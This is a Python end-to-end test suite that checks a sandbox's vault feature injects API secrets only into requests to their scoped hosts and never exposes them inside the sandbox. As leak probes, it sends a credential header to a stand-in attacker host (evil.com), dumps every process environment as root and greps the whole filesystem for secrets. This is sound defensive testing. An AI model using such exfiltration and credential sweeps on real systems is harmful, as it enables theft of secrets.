"""Vault secrets injected in flight, through the SDK's VaultClient and `vault_refs`.

Four secrets in env `prod`, one per injection type and lab host: bearer (api.openai.com),
header x-api-key + extra header (api.anthropic.com, an h2 upstream), basic with username
`x-access-token` (api.github.com), query parameters (example.com). The lab's request log
proves each real value reached its own host in the right place and nowhere else; the
placeholder sent anywhere else leaves as the placeholder. Inside the sandbox only
`declaw:vault-managed` is ever visible: env, every /proc/*/environ, the filesystem (searched
for the secrets' prefix, so the values themselves never enter the sandbox) and the echoed
responses (scrubbed). Rotation applies to the next request, a scope update moves the
injection, deleting the secret stops it.
"""

from __future__ import annotations

import base64
import json
import secrets
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from declaw import Sandbox, VaultClient, VaultScope

from declawd.client import DeclawdClient
from tests.e2e import conftest as c
from tests.e2e.test_inspection import (
    create,
    echo,
    eventually,
    lab_requests,
    marker,
    probe,
    record_headers,
    seen_upstream,
)

pytestmark = pytest.mark.e2e

PLACEHOLDER = "declaw:vault-managed"
PREFIX = "sk-vault-"  # every secret value starts with it: the in-sandbox search looks for it
GITHUB_USER = "x-access-token"
# kind -> (host, env var, scope)
KINDS: dict[str, tuple[str, str, VaultScope]] = {
    "openai": ("api.openai.com", "OPENAI_API_KEY", VaultScope(r"api\.openai\.com", "bearer")),
    "anthropic": (
        "api.anthropic.com",
        "ANTHROPIC_API_KEY",
        VaultScope(
            r"api\.anthropic\.com",
            "header",
            header_name="x-api-key",
            extra_headers={"anthropic-version": "2023-06-01"},
        ),
    ),
    "github": (
        "api.github.com",
        "GITHUB_TOKEN",
        VaultScope(r"api\.github\.com", "basic", basic_username=GITHUB_USER),
    ),
    "example": (
        "example.com",
        "EXAMPLE_KEY",
        # a template with {value}, and an empty one (= the value itself)
        VaultScope(r"example\.com", "query", query_params={"key": "{value}", "api_key": ""}),
    ),
}
# How the sandbox presents each placeholder: curl's extra arguments, a Python expression.
SEND = {
    "openai": "['-H', 'Authorization: Bearer ' + os.environ['OPENAI_API_KEY']]",
    "anthropic": "['-H', 'x-api-key: ' + os.environ['ANTHROPIC_API_KEY']]",
    "github": f"['-u', '{GITHUB_USER}:' + os.environ['GITHUB_TOKEN']]",
    "example": "[]",  # the placeholder goes in the URL (see _url)
}


def _value(kind: str) -> str:
    return f"{PREFIX}{kind}-{secrets.token_hex(12)}"


def _basic(value: str) -> str:
    return base64.b64encode(f"{GITHUB_USER}:{value}".encode()).decode()


def _ref(name: str) -> str:
    return f"vault://default/prod/{name}"


@pytest.fixture(scope="module")
def vault(server: dict[str, str]) -> Iterator[VaultClient]:
    with VaultClient(api_key=server["key"], domain=server["domain"]) as v:
        yield v


@pytest.fixture(scope="module")
def stored(vault: VaultClient) -> Iterator[dict[str, tuple[str, str]]]:
    """kind -> (secret name, value) for the four scoped secrets; deleted afterwards."""
    made: dict[str, tuple[str, str]] = {}
    try:
        for kind, (_, _, scope) in KINDS.items():
            name, value = f"insp-{kind}-{secrets.token_hex(4)}", _value(kind)
            vault.create_secret(value, name=name, scopes=[scope])
            made[kind] = (name, value)
        yield made
    finally:
        for name, _ in made.values():
            vault.delete_secret(name)


def _create_with_refs(stored: dict[str, tuple[str, str]], runtime: str = "runc") -> Sandbox:
    refs = {KINDS[kind][1]: _ref(name) for kind, (name, _) in stored.items()}
    return create(runtime, vault_refs=refs)  # open policy: the vault alone asks for inspection


@pytest.fixture(scope="module")
def sbx(stored: dict[str, tuple[str, str]]) -> Iterator[Sandbox]:
    s = _create_with_refs(stored)
    try:
        yield s
    finally:
        s.kill(wait=True)


@pytest.fixture(scope="module")
def client(server: dict[str, str]) -> Iterator[DeclawdClient]:
    with DeclawdClient(api_key=server["key"], domain=server["domain"]) as cl:
        yield cl


def _url(kind: str, host: str, m: str) -> str:
    url = f"https://{host}/anything?case={m}"
    return url + "&key=' + os.environ['EXAMPLE_KEY'] + '" if kind == "example" else url


def _send(s: Sandbox, kind: str, host: str, m: str) -> dict[str, Any]:
    """The sandbox sends `kind`'s placeholder the usual way to `host` (curl GET; curl's
    output file stays in the sandbox's /tmp)."""
    got: dict[str, Any] = probe(s, f"curl('{_url(kind, host, m)}', data=None, extra={SEND[kind]})")
    return got


def _query(rec: dict[str, Any]) -> dict[str, list[str]]:
    return urllib.parse.parse_qs(urllib.parse.urlsplit(rec["target"]).query)


def _all_values(stored: dict[str, tuple[str, str]]) -> list[str]:
    return [v for _, v in stored.values()] + [_basic(stored["github"][1])]


def test_each_injection_type_reaches_its_host_in_the_right_place(
    sbx: Sandbox, stored: dict[str, tuple[str, str]], client: DeclawdClient
) -> None:
    for kind, (host, _, _) in KINDS.items():
        value = stored[kind][1]
        m, t0 = marker(), time.time()
        doc = echo(_send(sbx, kind, host, m))
        (rec,) = seen_upstream(host, m, t0)
        headers, query = record_headers(rec), _query(rec)
        if kind == "openai":
            assert headers["authorization"] == [f"Bearer {value}"], rec
            assert doc["headers"]["authorization"] == f"Bearer {PLACEHOLDER}", doc
        elif kind == "anthropic":
            assert headers["x-api-key"] == [value] and headers["anthropic-version"] == [
                "2023-06-01"
            ]
            assert doc["headers"]["x-api-key"] == PLACEHOLDER, doc
            assert "2" in str(rec["http_version"]), rec  # injected into an h2 request
        elif kind == "github":
            assert headers["authorization"] == [f"Basic {_basic(value)}"], rec
            assert doc["headers"]["authorization"] == f"Basic {PLACEHOLDER}", doc
        else:
            assert query["key"] == [value] and query["api_key"] == [value], rec
            assert doc["query"]["key"] == [PLACEHOLDER] and doc["query"]["api_key"] == [PLACEHOLDER]
        # scrubbed: no form of any secret in what the sandbox got back
        assert not [v for v in _all_values(stored) if v in json.dumps(doc)], doc

        def event(m: str = m) -> list[dict[str, Any]]:
            got = [e.model_dump(mode="json") for e in client.audit(sbx.sandbox_id, kind="http")]
            return [e for e in got if m in e["url"]]

        (audited,) = eventually(event)
        assert audited["vault_injections"] == 1, audited  # one binding matched
        assert value not in json.dumps(audited)
        if kind == "example":
            assert "key=***" in urllib.parse.unquote(audited["url"]), audited
    everything = [e.model_dump(mode="json") for e in client.audit(sbx.sandbox_id, limit=1000)]
    assert not [v for v in _all_values(stored) if v in json.dumps(everything)]


def test_placeholder_elsewhere_leaves_as_the_placeholder(
    sbx: Sandbox, stored: dict[str, tuple[str, str]]
) -> None:
    t0, value_of_openai = time.time(), stored["openai"][1]
    # A host no scope matches (not even inspected).
    m = marker()
    echo(_send(sbx, "openai", "evil.com", m))
    (rec,) = seen_upstream("evil.com", m, t0)
    assert record_headers(rec)["authorization"] == [f"Bearer {PLACEHOLDER}"], rec
    # An inspected host that is another secret's scope: that secret's header stays as sent.
    m = marker()
    echo(_send(sbx, "anthropic", "api.openai.com", m))
    (rec,) = seen_upstream("api.openai.com", m, t0)
    assert record_headers(rec)["x-api-key"] == [PLACEHOLDER], rec
    # The right host over plain HTTP: never injected (the operator has not allowed it).
    m = marker()
    got = probe(
        sbx, f"curl('http://api.openai.com/anything?case={m}', data=None, extra={SEND['openai']})"
    )
    echo(got)
    (rec,) = seen_upstream("api.openai.com", m, t0)
    assert record_headers(rec)["authorization"] == [f"Bearer {PLACEHOLDER}"], rec
    assert value_of_openai not in json.dumps(rec)
    # No secret reached evil.com; api.openai.com saw its own secret only (the bearer binding
    # is injected into every HTTPS request to it, also the x-api-key one above).
    values = _all_values(stored)
    assert not [v for v in values if v in json.dumps(lab_requests("evil.com", t0))]
    openai_log = json.dumps(lab_requests("api.openai.com", t0))
    assert not [v for v in values if v != value_of_openai and v in openai_log]


def _absent_inside(s: Sandbox, stored: dict[str, tuple[str, str]]) -> None:
    # Requests first: curl keeps each echo in a file, so a leak through a response would
    # be on the filesystem searched below.
    for kind, (host, _, _) in KINDS.items():
        got = _send(s, kind, host, marker())
        assert echo(got) and PLACEHOLDER in got["text"], got
    env = s.commands.run("env", timeout=30).stdout
    for _, var, _ in KINDS.values():
        assert f"{var}={PLACEHOLDER}" in env.splitlines(), env
    environs = s.commands.run(
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'", user="root", timeout=60
    ).stdout
    assert f"OPENAI_API_KEY={PLACEHOLDER}" in environs.splitlines()  # the read worked
    # The filesystem, searched for the values' prefix and for base64 of `x-access-token:`
    # (a decoy proves the search finds what is there).
    s.files.write("/tmp/decoy.txt", f"{PREFIX}decoy-0000")
    b64_user = base64.b64encode(f"{GITHUB_USER}:".encode()).decode()
    found = s.commands.run(
        "grep -raoh --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
        f"-e '{PREFIX}[a-z]*-[0-9a-f]*' -e '{b64_user}[A-Za-z0-9+/=]*' / 2>/dev/null | sort -u",
        user="root",
        timeout=600,
    ).stdout
    assert f"{PREFIX}decoy-0000" in found.split(), found
    for text in (env, environs, found):
        assert not [v for v in _all_values(stored) if v in text]


def _host_files(sandbox_id: str) -> list[Path]:
    """What the node keeps for a sandbox: its dir (the writable layer of its filesystem
    included; not the merged rootfs view or the raw disk image), the gateway's state.json
    and the store (where secrets are sealed)."""
    root = c.STATE_DIR / "sandboxes" / sandbox_id
    files = [
        p
        for p in root.rglob("*")
        if "rootfs" not in p.relative_to(root).parts
        and p.name != "disk.img"
        and p.is_file()
        and not p.is_symlink()
    ]
    extra = [c.STATE_DIR / "gateway" / "state.json", *c.STATE_DIR.glob("declawd.db*")]
    return files + [p for p in extra if p.is_file()]


def test_secret_absent_inside_the_sandbox(sbx: Sandbox, stored: dict[str, tuple[str, str]]) -> None:
    _absent_inside(sbx, stored)
    # ... and in every file the node keeps for it, the store included (values are sealed).
    values = [v.encode() for v in _all_values(stored)]
    files = _host_files(sbx.sandbox_id)
    assert any(p.name == "state.json" for p in files) and any(p.name == "declawd.db" for p in files)
    leaks = [str(p) for p in files if any(v in p.read_bytes() for v in values)]
    assert leaks == []


def test_secret_absent_inside_a_runsc_sandbox(stored: dict[str, tuple[str, str]]) -> None:
    s = _create_with_refs(stored, "runsc")
    try:
        _absent_inside(s, stored)
    finally:
        s.kill(wait=True)


def test_rotation_scope_update_and_delete_apply_to_a_running_sandbox(
    vault: VaultClient, server: dict[str, str]
) -> None:
    name, first, second = f"insp-rot-{secrets.token_hex(4)}", _value("rot"), _value("rot")
    vault.create_secret(
        first,
        name=name,
        scopes=[VaultScope(r"api\.openai\.com", "header", header_name="x-rot-key")],
    )
    deleted = False
    try:
        s = create(vault_refs={"ROT_KEY": _ref(name)})
        try:
            send = "['-H', 'x-rot-key: ' + os.environ['ROT_KEY'], '-H', 'x-moved: ' + os.environ['ROT_KEY']]"

            def request() -> dict[str, list[str]]:
                m, t0 = marker(), time.time()
                echo(
                    probe(
                        s,
                        f"curl('https://api.openai.com/anything?case={m}', data=None, extra={send})",
                    )
                )
                (rec,) = seen_upstream("api.openai.com", m, t0)
                return record_headers(rec)

            assert request()["x-rot-key"] == [first]
            vault.rotate_secret(name, second)
            assert request()["x-rot-key"] == [second]  # the very next request

            # A scope update reaches the running sandbox through the node (policy refresh).
            vault.update_scopes(
                name, [VaultScope(r"api\.openai\.com", "header", header_name="x-moved")]
            )

            def moved() -> dict[str, list[str]] | None:
                headers = request()
                return headers if headers["x-moved"] == [second] else None

            now = eventually(moved)
            assert now and now["x-rot-key"] == [PLACEHOLDER], now

            vault.delete_secret(name)
            deleted, since = True, time.time()
            assert eventually(lambda: request()["x-moved"] == [PLACEHOLDER])
            assert request()["x-moved"] == [PLACEHOLDER]  # and it stays so
            after = json.dumps(lab_requests("api.openai.com", since))
            assert second not in after and first not in after
        finally:
            s.kill(wait=True)
    finally:
        if not deleted:
            vault.delete_secret(name)
